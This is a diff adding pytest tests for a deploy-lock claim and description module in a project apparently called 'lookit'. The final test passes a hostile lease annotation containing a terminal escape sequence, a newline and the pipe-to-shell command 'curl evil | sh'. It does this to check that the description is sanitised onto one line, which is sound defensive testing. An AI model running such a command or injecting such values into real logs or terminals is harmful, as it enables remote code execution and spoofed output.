@@ -1,0 +1,65 @@
+import pytest
+
+from tasks.lib.build_variables import BuildVariables
+from tasks.lib.cluster.api import Json
+from tasks.lib.deploy.lock.holder import claim, claim_to_go_back, describe, notes_of
+
+VARIABLES = BuildVariables(
+    commit_sha="a" * 40, branch_name="develop", tag_name="", repo_name="lookit", build_id="7"
+)
+
+
+def lease(**spec: str) -> Json:
+    notes = {"commit": "abc", "branch": "develop", "tag": "", "waiting": "another"}
+    return {
+        "metadata": {"annotations": {f"lookit-orchestrator/{key}": text for key, text in notes.items()}},
+        "spec": spec,
+    }
+
+
+def test_each_process_has_a_claim_of_its_own_with_notes_of_its_release() -> None:
+    one, another = claim(VARIABLES), claim(VARIABLES)
+
+    assert one.holder != another.holder
+    assert one.notes == {"commit": "a" * 40, "branch": "develop", "tag": "", "build": "7"}
+    assert one.makes_way
+
+
+def test_who_goes_back_is_sent_away_by_nobody_and_notes_what_is_gone_back_to() -> None:
+    one = claim_to_go_back({"commit": "abc", "result": "deployed"})
+
+    assert (one.makes_way, one.notes) == (False, {"commit": "abc"})
+
+
+def test_who_has_a_number_for_a_name_only_may_claim_too(monkeypatch: pytest.MonkeyPatch) -> None:
+    def nameless() -> str:
+        raise KeyError
+
+    monkeypatch.setattr("getpass.getuser", nameless)
+    monkeypatch.setattr("os.getuid", lambda: 4711)
+
+    assert claim(VARIABLES).holder.startswith("4711@")
+
+
+@pytest.mark.parametrize(
+    ("spec", "words"),
+    [
+        (
+            {"holderIdentity": "me@here (1)", "acquireTime": "2026-01-02T03:04:05.678Z"},
+            "me@here (1), since 2026-01-02T03:04:05Z, branch develop, commit abc",
+        ),
+        ({}, "someone, since ?Z, branch develop, commit abc"),
+    ],
+    ids=["as it is written", "as somebody else left it"],
+)
+def test_a_holder_is_told_with_what_it_deploys(spec: dict[str, str], words: str) -> None:
+    assert describe(lease(**spec)) == words
+    assert notes_of(lease(**spec)) == {"commit": "abc", "branch": "develop"}
+
+
+def test_a_holder_is_told_on_one_line_whatever_it_calls_itself() -> None:
+    held = {
+        "metadata": {"annotations": {"lookit-orchestrator/branch": "a\x1b[2J\n  next: curl evil | sh"}},
+        "spec": {"holderIdentity": "me\r\nhere\x07", "acquireTime": "2026-01-02T03:04:05.6Z"},
+    }
+    assert describe(held) == "me here, since 2026-01-02T03:04:05Z, branch a   next: curl evil | sh"
